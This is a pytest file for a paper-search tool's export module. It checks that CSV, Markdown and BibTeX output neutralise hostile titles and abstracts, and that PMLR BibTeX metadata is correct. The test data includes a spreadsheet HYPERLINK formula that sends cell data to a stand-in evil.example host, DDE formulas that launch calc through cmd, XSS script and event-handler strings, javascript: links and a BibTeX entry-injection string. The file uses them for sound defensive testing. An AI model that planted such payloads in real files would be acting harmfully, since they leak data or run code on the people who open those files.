"""Exports stay safe when titles and abstracts are hostile (issue 8, item 5):
no spreadsheet formula in the CSV, no live HTML or script links in the
Markdown, BibTeX escaped."""

from __future__ import annotations

import csv
import io
import re

import pytest

from rag.types import (
    ASPECTS,
    Answer,
    Citation,
    CompareCell,
    Comparison,
    Paper,
    Provenance,
    SearchHit,
    SentenceSupport,
    Timings,
)
from ui import export

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HOSTILE_ABSTRACT = (
    "We study parsing. <script>alert(1)</script> See <img src=x onerror=alert(2)> and "
    "<svg onload=alert(3)>. [click me](javascript:alert(4)) and [img](data:text/html;base64,"
    "PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==) and [tabbed](java\tscript:alert(6)) and "
    "[upper]( JAVASCRIPT:alert(7)) but [fine](https://example.org/ok).\n"
    "[ref]: javascript:alert(8)"
)


def hostile_paper(pid: str, title: str, abstract: str = HOSTILE_ABSTRACT) -> Paper:
    return Paper(paper_id=pid, abstract=abstract, title=title, authors=["Eve <b>Evil</b>"],
                 url="javascript:alert(9)", venue="ICML", year=2025, source="icml2025",
                 provenance=[Provenance(f"icml2025/{pid}.txt", 1, 1)])


def hostile_comparison() -> Comparison:
    papers = [hostile_paper(f"p{i}", f) for i, f in enumerate(FORMULAS[:4])]
    cells = {
        p.paper_id: {a: CompareCell(FORMULAS[(i + j) % len(FORMULAS)], HOSTILE_ABSTRACT)
                     for j, a in enumerate(ASPECTS)}
        for i, p in enumerate(papers)
    }
    return Comparison(papers, cells, "=1+1 " + HOSTILE_ABSTRACT,
                      [SentenceSupport("x", [1], 0.5, True)], "fake", Timings())


def hostile_answer() -> Answer:
    p = hostile_paper("p1", "<script>alert('title')</script>[t](javascript:alert(0))")
    hits = [SearchHit(p, 0.9, 1)]
    sents = [SentenceSupport("<img src=x onerror=alert(1)> claim", [], 0.1, False)]
    return Answer("<svg onload=alert(1)>?\n# injected heading", "q", HOSTILE_ABSTRACT, sents,
                  [Citation(1, p, HOSTILE_ABSTRACT, 0.8)], hits, False, None, "m", Timings())


def _assert_markdown_inert(md: str) -> None:
    assert not re.search(r"<\s*[a-z/!]", md, re.IGNORECASE), "raw HTML tag in the export"
    assert not re.search(r"\]\(\s*<?\s*(javascript|data|vbscript)", md, re.IGNORECASE)
    for scheme in ("javascript:", "java\tscript:", "data:text/html", "JAVASCRIPT:"):
        for m in re.finditer(re.escape(scheme), md, re.IGNORECASE):
            before = md[max(0, m.start() - 3): m.start()]
            assert "](" not in before and "]:" not in md[max(0, m.start() - 8): m.start()], (
                f"live link to {scheme!r}: {md[m.start() - 20: m.end() + 10]!r}")
    assert "[fine](https://example.org/ok)" in md  # safe links survive


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises_formulas(value):
    assert export.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "3.5", "", "a=b", "'already", "ok-ish"])
def test_csv_cell_leaves_plain_text(value):
    assert export.csv_cell(value) == value


def test_comparison_csv_has_no_formula_cells():
    text = export.comparison_csv(hostile_comparison())
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    assert len(rows) > len(hostile_comparison().papers)
    for c in cells:
        assert not c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), c
    for f in FORMULAS:  # titles and cells are kept, as text
        assert "'" + f in cells


def test_comparison_markdown_is_inert():
    md = export.comparison_markdown(hostile_comparison())
    _assert_markdown_inert(md)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md  # shown as text, not dropped
    assert "click me (link removed)" in md
    assert "javascript:alert(9)" not in md  # non-http paper URL not exported


def test_conversation_markdown_is_inert():
    md = export.conversation_markdown([hostile_answer()])
    _assert_markdown_inert(md)
    assert "\n# injected heading" not in md  # a question cannot start a heading
    assert "&lt;svg onload=alert(1)&gt;" in md


def test_bibtex_stays_escaped():
    p = hostile_paper("p1", "Evil} @misc{x, title={pwn} & 100% $x$ #1 _y_ ~ ^ \\cmd")
    bib = export.bibtex([p])
    assert len(re.findall(r"^@", bib, re.MULTILINE)) == 1  # no second entry opened
    title = re.search(r"title = \{\{(.*)\}\},", bib).group(1)
    assert r"\}" in title and r"\{" in title and r"\&" in title and r"\%" in title
    assert r"\textbackslash{}cmd" in title
    assert "javascript" not in bib
    assert bib.count("{") - bib.count(r"\{") == bib.count("}") - bib.count(r"\}")


# ----------------------------------------------- BibTeX from PMLR metadata (issue 29, item 7)


def _pmlr_paper(pid: str = "zhu25z", volume: str = "267", **kw) -> Paper:
    fields = dict(
        paper_id="icml2025-7", title="Scaling Laws for Sparse Mixtures",
        abstract="We study sparse mixtures.", authors=["Ann Zhu", "Bo Li"],
        url=f"https://proceedings.mlr.press/v{volume}/{pid}.html",
        links={"pdf": f"https://raw.githubusercontent.com/mlresearch/v{volume}/main/assets/"
                      f"{pid}/{pid}.pdf",
               "openreview": "https://openreview.net/forum?id=abc"},
        venue="ICML", year=2025, source="icml2025")
    fields.update(kw)
    return Paper(**fields)


def _entry_fields(bib: str) -> dict[str, str]:
    return dict(re.findall(r"^  (\w+) = \{(.*)\},?$", bib, re.MULTILINE))


def test_bibtex_pmlr_entry_has_the_proceedings_metadata():
    bib = export.bibtex([_pmlr_paper()])
    assert bib.startswith("@inproceedings{zhu25z,\n")  # key = the PMLR id
    f = _entry_fields(bib)
    assert f["title"] == "{Scaling Laws for Sparse Mixtures}"
    assert f["author"] == "Ann Zhu and Bo Li"
    assert f["booktitle"] == "Proceedings of the 42nd International Conference on Machine Learning"
    assert f["year"] == "2025" and f["volume"] == "267" and f["publisher"] == "PMLR"
    assert f["series"] == "Proceedings of Machine Learning Research"
    assert f["editor"].startswith("Singh, Aarti and Fazel, Maryam")
    assert f["pdf"].endswith("/v267/main/assets/zhu25z/zhu25z.pdf")
    assert f["url"] == "https://proceedings.mlr.press/v267/zhu25z.html"
    assert "note" not in f and "abstracts-qa" not in bib  # nothing tool-specific
    # PMLR's own field order
    order = [k for k in ("title", "author", "booktitle", "year", "editor", "volume", "series",
                         "publisher", "pdf", "url")]
    assert [k for k in f if k in order] == order


def test_bibtex_pmlr_volume_from_the_pdf_and_other_volumes():
    # ICML 2024 (v235), named only by the PDF link.
    p = _pmlr_paper("smith24a", "235", url=None, year=2024)
    f = _entry_fields(export.bibtex([p]))
    assert f["booktitle"] == "Proceedings of the 41st International Conference on Machine Learning"
    assert f["volume"] == "235" and f["url"] == "https://proceedings.mlr.press/v235/smith24a.html"
    # A volume not in the table: still PMLR's keys, the venue as booktitle, no editor.
    q = _pmlr_paper("doe24b", "999", venue="AISTATS", year=2024, links={})
    bib = export.bibtex([q])
    f = _entry_fields(bib)
    assert bib.startswith("@inproceedings{doe24b,")
    assert f["booktitle"] == "AISTATS" and f["volume"] == "999" and "editor" not in f
    assert "pdf" not in f
    # The table is data (rag/readers/pmlr_volumes.json), every row complete.
    for vol, row in export.PMLR_VOLUMES.items():
        assert vol.isdigit() and {"booktitle", "year", "venue", "editor"} <= set(row), vol


def test_bibtex_without_pmlr_metadata_and_unique_keys():
    arxiv = Paper(paper_id="a1", title="A Survey of Things", abstract="x.",
                  authors=["Carla Gómez"], url="https://arxiv.org/abs/2401.00001", year=2024)
    workshop = Paper(paper_id="w1", title="Small Models Matter", abstract="x.",
                     authors=["Dan Roe"], venue="NeurIPS Workshop", year=2023)
    twins = [_pmlr_paper(), _pmlr_paper(paper_id="dup")]
    bib = export.bibtex([arxiv, workshop, *twins])
    entries = bib.split("\n\n")
    assert entries[0].startswith("@misc{gomez2024survey,")
    assert "url = {https://arxiv.org/abs/2401.00001}" in entries[0]
    assert "booktitle" not in entries[0] and "PMLR" not in entries[0]
    assert entries[1].startswith("@inproceedings{roe2023small,")
    assert "booktitle = {NeurIPS Workshop}" in entries[1] and "volume" not in entries[1]
    assert "note" not in bib
    keys = re.findall(r"^@\w+\{([^,]+),", bib, re.MULTILINE)
    assert keys == ["gomez2024survey", "roe2023small", "zhu25z", "zhu25z2"]


def test_bibtex_ignores_non_pmlr_lookalike_urls():
    p = _pmlr_paper(url="https://evil.example/proceedings.mlr.press/v267/x.html", links={})
    bib = export.bibtex([p])
    assert "volume" not in bib and "PMLR" not in bib
    assert bib.startswith("@inproceedings{zhu2025scaling,")


def test_bibtex_pmlr_pages_come_from_the_post(tmp_path):
    """A PMLR post's ``page`` reaches the BibTeX entry, in PMLR's place (after
    booktitle); a paper whose source gives no pages gets none, not a guess."""
    from rag.corpus import load_corpus

    post = tmp_path / "posts" / "2025-10-06-zhu25z.md"
    post.parent.mkdir()
    post.write_text("---\ntitle: Scaling Laws for Sparse Mixtures\nabstract: We study sparse "
                    "mixtures of experts and how their loss scales with the number of experts.\n"
                    "id: zhu25z\nfirstpage: 101\nlastpage: 120\npage: 101-120\n"
                    "pdf: https://raw.githubusercontent.com/mlresearch/v267/main/assets/zhu25z/"
                    "zhu25z.pdf\nauthor:\n- given: Ann\n  family: Zhu\n---\n", encoding="utf-8")
    paper = load_corpus([post.parent]).papers[0]
    assert paper.pages == "101-120"
    f = _entry_fields(export.bibtex([paper]))
    assert f["pages"] == "101-120"
    assert list(f).index("pages") == list(f).index("booktitle") + 1
    assert "pages" not in _entry_fields(export.bibtex([_pmlr_paper()]))
